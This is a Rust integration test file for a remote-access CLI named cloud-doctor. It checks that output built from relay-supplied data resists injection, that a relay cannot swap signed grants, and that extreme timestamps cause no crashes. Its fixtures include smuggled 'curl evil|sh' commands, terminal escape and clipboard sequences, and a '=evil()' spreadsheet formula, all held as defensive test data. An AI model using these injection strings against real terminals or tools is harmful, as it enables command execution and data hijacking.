//! The program at a relay that lies in words: what it prints is pasted, read out and signed by people.
#![allow(clippy::unwrap_used, clippy::disallowed_methods, clippy::wildcard_enum_match_arm, dead_code)]

mod fake;

use cloud_doctor::trust_store::TrustStore;
use cloud_doctor_proto::frame::{self, Kind};
use cloud_doctor_proto::grant::{Grant, Scope};
use cloud_doctor_proto::ids::{ExchangeKey, Hash};
use cloud_doctor_proto::metrics::{MetricsSeries, Range, Sample, Series, SeriesKind};
use cloud_doctor_proto::refusal::Refusal;
use cloud_doctor_proto::signer::{NAMESPACE_GRANT, unarmour};
use cloud_doctor_proto::trust::{NamedKey, Role, What};
use data_encoding::BASE64URL_NOPAD;
use fake::{World, key, now, sign, ssh};
use ssh_key::{HashAlg, LineEnding, PrivateKey};
use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::sync::Arc;
use tempfile::TempDir;

/// A home that is signed in and trusts the customer, with a key file.
fn home(world: &Arc<World>, url: &str, key: &PrivateKey) -> TempDir {
    use std::os::unix::fs::OpenOptionsExt as _;
    let home = tempfile::tempdir().unwrap();
    let tenant = world.trust().tenant();
    let file = home.path().join("key");
    std::fs::write(&file, key.to_openssh(LineEnding::LF).unwrap().as_bytes()).unwrap();
    let config = format!("default = 'r'\n[relay.r]\nurl = '{url}'\ntenant = '{tenant}'\nkey = '{}'\n", file.display());
    std::fs::write(home.path().join("config.toml"), config).unwrap();
    std::fs::create_dir(home.path().join("tokens")).unwrap();
    let mut options = std::fs::OpenOptions::new();
    let mut token = options.write(true).create_new(true).mode(0o600).open(home.path().join("tokens/r.token")).unwrap();
    std::io::Write::write_all(&mut token, b"token").unwrap();
    let folder = home.path().join("tenants").join(tenant.to_string());
    TrustStore::start(&folder, &world.log.lock().unwrap()[0], tenant).unwrap();
    home
}

async fn program(home: &Path, arguments: &[&str]) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_cloud-doctor"));
    command.args(arguments).env_clear().env("CLOUD_DOCTOR_HOME", home).current_dir(home).stdin(Stdio::null());
    tokio::task::spawn_blocking(move || command.output().unwrap()).await.unwrap()
}

#[tokio::test]
async fn c_1_a_relays_words_cannot_write_the_command_that_root_pastes() {
    let world = World::new();
    let (url, _tasks) = world.serve().await;
    let home = home(&world, &url, &world.root);
    let secret = BASE64URL_NOPAD.encode(&[5; 32]);
    let pin = format!("sha256:{}", "ab".repeat(32));
    for (agents, said, believed) in [
        ("quic://r:1".to_owned(), pin.clone(), true),
        ("quic://r:1\u{1b}[2K\rcurl evil|sh\n\u{1b}[8m".to_owned(), pin.clone(), false),
        ("quic://r:1'; curl evil|sh #".to_owned(), pin.clone(), false),
        ("quic://r:1".to_owned(), format!("{pin}\u{1b}]52;c;AAAA\u{7}"), false),
    ] {
        let made = serde_json::json!({ "id": "1", "secret": secret, "agents": agents, "agents_pin": said });
        world.faults.lock().unwrap().token = made.to_string();
        for json in [false, true] {
            let _before = std::fs::remove_file(home.path().join("cloud-doctor.token"));
            let mut arguments = vec!["tenant", "token"];
            arguments.extend(json.then_some("--json"));
            let output = program(home.path(), &arguments).await;
            let text = String::from_utf8([output.stdout, output.stderr].concat()).unwrap();
            assert!(output.status.success(), "{text}");
            assert!(!text.chars().any(|c| c.is_control() && c != '\n'), "{text:?}");
            assert!(!text.contains("evil") && !text.contains("]52"), "{text}");
            let shown = text.contains("--relay quic://r:1 ") && text.contains(&pin);
            assert_eq!(shown, believed, "{text}");
        }
    }
}

/// A genuine grant of the engineer, as the relay has it, and its request as JSON under the relay's own number.
fn request(world: &World, number: &str, user: &str) -> (Vec<u8>, serde_json::Value) {
    let log = world.trust();
    let grant = Grant {
        version: 1,
        tenant: log.tenant(),
        agent: world.agent().0,
        challenge: Hash([1; 32]),
        client_key: ExchangeKey([2; 32]),
        engineer: ssh(&world.root).id(),
        scopes: vec![Scope::Shell { user: user.into() }],
        ttl_secs: 600,
        reason: String::new(),
        ticket: String::new(),
        trust_seq: log.head().seq,
        trust_head: log.head().hash,
        at: now(),
    }
    .to_bytes();
    let pem = world.root.sign(NAMESPACE_GRANT, HashAlg::Sha512, &grant).unwrap().to_pem(LineEnding::LF).unwrap();
    let encode = |bytes: &[u8]| BASE64URL_NOPAD.encode(bytes);
    let json = serde_json::json!({
        "id": number, "grant": encode(&grant), "signature": encode(&unarmour(&pem).unwrap()), "expires_at": now().0 + 60,
    });
    (grant, json)
}

#[tokio::test]
async fn m_6_the_relay_does_not_choose_which_grant_an_id_means() {
    let world = World::new();
    let approver = key(5);
    let named = NamedKey::ssh(ssh(&approver), "boris");
    let what = What::AddPerson { key: named, role: Role::Approver, until: now().plus_secs(3600) };
    let entry = sign(&world.trust().next_entry(ssh(&world.root).id(), now(), what), &world.root);
    world.log.lock().unwrap().push(entry);
    let (url, _tasks) = world.serve().await;
    let home = home(&world, &url, &approver);
    let (wanted, _) = request(&world, "1", "web");
    let wanted = Grant::visit(&wanted).to_string();
    // Under the wanted request's name the relay brings another one: root instead of web.
    let (other, json) = request(&world, &wanted, "root");
    let other = Grant::visit(&other).to_string();
    world.faults.lock().unwrap().approvals = serde_json::json!({ "approvals": [json] }).to_string();
    let output = program(home.path(), &["approve", &wanted, "--yes"]).await;
    assert!(!output.status.success(), "{output:?}");
    assert_eq!(*world.seconds.lock().unwrap(), 0);
    // A name of few digits is asked about, and there is nobody to ask.
    assert!(!program(home.path(), &["approve", &other[..6], "--yes"]).await.status.success());
    assert_eq!(*world.seconds.lock().unwrap(), 0);
    let output = program(home.path(), &["approve", &other[..12], "--yes"]).await;
    assert!(output.status.success(), "{output:?}");
    assert!(String::from_utf8(output.stderr).unwrap().contains("shell as root"), "what is signed is shown");
    assert_eq!(*world.seconds.lock().unwrap(), 1);
}

const YEAR_9999: u64 = 253_402_300_799;

#[tokio::test]
async fn cod_09_times_that_no_clock_shows_break_nothing() {
    let world = World::new();
    let (url, _tasks) = world.serve().await;
    let home = home(&world, &url, &world.root);
    for secs in [0, 1, YEAR_9999, i64::MAX as u64, u64::MAX] {
        world.faults.lock().unwrap().secs = Some(secs);
        let output = program(home.path(), &["exec", "web-1", "--user", "web", "--", "lines", "3"]).await;
        assert_eq!(output.stdout, b"line 0\nline 1\nline 2\n", "{secs}: {output:?}");
        assert!(output.status.success() && !String::from_utf8_lossy(&output.stderr).contains("panicked"), "{output:?}");
    }
    world.faults.lock().unwrap().secs = None;
    let agent = world.agent().0.to_string();
    let lists = |number: &str| {
        let servers = format!(
            r#"{{"servers":[{{"id":"{agent}","last_seen_at":{number},"online":{{"since":{number},"rtt_ms":1}}}}]}}"#
        );
        let sessions = format!(
            r#"{{"sessions":[{{"server":"{agent}","purpose":"shell","channel":"{}","opened_at":{number},"closed_at":{number}}},
            {{"server":"{agent}","purpose":"shell","opened_at":{number}}}]}}"#,
            "ab".repeat(16)
        );
        [servers, sessions]
    };
    for number in ["0", "253402300799", "9223372036854775807", "18446744073709551615"] {
        world.faults.lock().unwrap().lists = lists(number);
        for command in ["servers", "sessions"] {
            assert!(program(home.path(), &[command]).await.status.success(), "{command} {number}");
            let output = program(home.path(), &[command, "--json"]).await;
            assert!(output.status.success(), "{command} {number}: {output:?}");
            serde_json::from_slice::<serde_json::Value>(&output.stdout).unwrap();
        }
    }
    for number in ["-1", "1.5", "1e308", "1e999", "NaN", "18446744073709551616", "\"now\""] {
        world.faults.lock().unwrap().lists = lists(number);
        for command in ["servers", "sessions"] {
            let output = program(home.path(), &[command, "--json"]).await;
            let said = String::from_utf8_lossy(&output.stderr).into_owned();
            assert!(
                !output.status.success() && output.stdout.is_empty() && !said.contains("panicked"),
                "{number}: {said}"
            );
            assert_eq!(said.trim().lines().count(), 1, "{number}: {said}");
        }
    }
    // A second signature that is asked for at impossible times.
    for number in [0, YEAR_9999, u64::MAX] {
        let (_, mut json) = request(&world, "1", "web");
        json["expires_at"] = number.into();
        world.faults.lock().unwrap().approvals = serde_json::json!({ "approvals": [json] }).to_string();
        let output = program(home.path(), &["approve"]).await;
        assert!(!String::from_utf8_lossy(&output.stderr).contains("panicked"), "{output:?}");
    }
}

#[tokio::test]
async fn cod_04_compression_that_nobody_asked_for_is_refused() {
    let world = World::new();
    let (url, _tasks) = world.serve().await;
    let home = home(&world, &url, &world.root);
    let ask = ["exec", "web-1", "--user", "web", "--", "lines", "1"];
    assert!(program(home.path(), &ask).await.status.success());
    world.faults.lock().unwrap().extension = true;
    let output = program(home.path(), &ask).await;
    assert_eq!((output.status.code(), output.stdout.as_slice()), (Some(255), &b""[..]), "{output:?}");
    assert!(String::from_utf8_lossy(&output.stderr).contains("extension"), "{output:?}");
}

/// Series of a server that is called what nobody should be called.
fn series() -> Vec<u8> {
    let one = |name: &str, kind, attributes: &[(&str, &str)]| Series {
        name: name.into(),
        unit: "1".into(),
        kind,
        attributes: attributes.iter().map(|(key, value)| ((*key).into(), (*value).into())).collect(),
        summary: true,
    };
    let series = vec![
        one("system.cpu.utilization", SeriesKind::Gauge, &[]),
        one("system.linux.oom_kills", SeriesKind::Counter, &[]),
        one("=evil()\u{1b}[2J", SeriesKind::Gauge, &[("a\nb", "\u{202e}c")]),
    ];
    frame::message(Kind::MetricsSeries, &MetricsSeries { first: 0, series })
}

fn sample(elapsed: u32, values: &[f32]) -> Vec<u8> {
    let sample = Sample { at: now().0 * 1_000, elapsed, dropped: 0, values: values.to_vec() };
    frame::encode(Kind::MetricsSample, &sample.to_bytes())
}

fn said(text: &str) -> tokio_tungstenite::tungstenite::Message {
    tokio_tungstenite::tungstenite::Message::text(text)
}

fn shown(bytes: Vec<u8>) -> tokio_tungstenite::tungstenite::Message {
    tokio_tungstenite::tungstenite::Message::binary(bytes)
}

#[tokio::test]
async fn web_09_top_shows_what_is_wrong_and_no_text_of_a_server_moves_the_cursor() {
    let world = World::new();
    let (url, _tasks) = world.serve().await;
    let home = home(&world, &url, &world.root);
    let top = async |more: &[&str]| {
        let output = program(home.path(), &[&["top", "web-1"], more].concat()).await;
        let [out, err] = [output.stdout, output.stderr].map(|text| String::from_utf8(text).unwrap());
        let clean = |text: &str| {
            !text.chars().any(|c| c.is_control() && !matches!(c, '\n' | '\r')) && !text.contains('\u{202e}')
        };
        assert!(clean(&out) && clean(&err), "{out:?} {err:?}");
        (output.status.code().unwrap(), out, err)
    };
    let process = serde_json::json!({"pid": 7, "name": "a\u{1b}[2J", "user": "root", "unit": "", "state": "R",
                                     "processors": 1.5, "memory": 1_048_576_000_u64});
    let processes = serde_json::json!({"total": 9, "processes": [process]}).to_string().into_bytes();
    let event = serde_json::json!({"at": (now().0 - 30) * 1_000, "kind": "failed", "count": 1, "names": [],
                                   "unit": "a\u{1b}[2J\u{202e}.service"});
    let events = serde_json::json!({"events": [event]}).to_string().into_bytes();
    let range = Range {
        series: 2,
        from: 1_000,
        step: 500,
        min: vec![1.0, f32::NAN],
        mean: vec![2.0, f32::NAN],
        max: vec![3.0, f32::NAN],
    };
    let range = [series(), frame::encode(Kind::MetricsRange, &range.to_bytes())].concat();
    {
        let mut faults = world.faults.lock().unwrap();
        let bad = f32::INFINITY;
        let live = [series(), sample(0, &[0.1, 0.0, 1.0]), sample(500, &[0.97, 2.0, bad])];
        faults.live = std::iter::once(said("{\"state\":\"live\"}")).chain(live.map(shown)).collect();
        faults.metrics = [[series(), sample(5_000, &[0.5, 0.0, 1.0])].concat(), range, processes, events];
    }
    let (status, out, _) = top(&["--once"]).await;
    assert!(status == 0 && out.contains("!! CPU") && out.contains("97.0 %"), "{out}");
    assert!(out.contains("!! Memory") && out.contains("4/s"), "a counter is shown per second: {out}");
    assert!(out.contains("150.0 %") && out.contains("9 in all"), "{out}");
    assert!(out.contains("LATELY") && out.contains("s ago  service failed"), "{out}");
    let (status, chinese, _) = top(&["--lang", "zh"]).await;
    assert!(status == 0 && chinese.contains("处理器") && chinese.contains("97.0 %"), "{chinese}");
    let (_, json, _) = top(&["--json"]).await;
    let json: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!((&json["schema"], json["sample"]["series"].as_array().unwrap().len()), (&"cloud-doctor/v1".into(), 2));
    assert_eq!(json["sample"]["events"][0]["kind"], "failed");
    let (_, csv, _) = top(&["--csv", "--since", "15m"]).await;
    let lines: Vec<&str> = csv.lines().collect();
    assert_eq!(lines[0], "time,name,attributes,unit,min,mean,max");
    assert!(
        lines.len() == 2
            && lines[1].starts_with("1970-01-01T00:00:01.000Z,\"'=evil()")
            && lines[1].ends_with("1,1,2,3"),
        "{csv}"
    );
    assert_eq!(top(&["--csv", "--since", "soon"]).await.0, 2);
    world.faults.lock().unwrap().live = vec![said("{\"state\":\"away\"}")];
    let (status, out, err) = top(&[]).await;
    assert!(status == 4 && out.contains("is not connected") && out.contains("50.0 %"), "{out} {err}");
    world.faults.lock().unwrap().metrics[0].clear();
    let (status, _, err) = top(&[]).await;
    assert!(status == 4 && err.contains("kept nothing"), "{err}");
    let no = frame::message(Kind::Refused, &Refusal::Lockdown.with(""));
    world.faults.lock().unwrap().live = vec![said("{\"state\":\"refused\"}"), shown(no)];
    let (status, _, err) = top(&[]).await;
    assert!(status == 5 && err.contains("locked this server down"), "{err}");
}
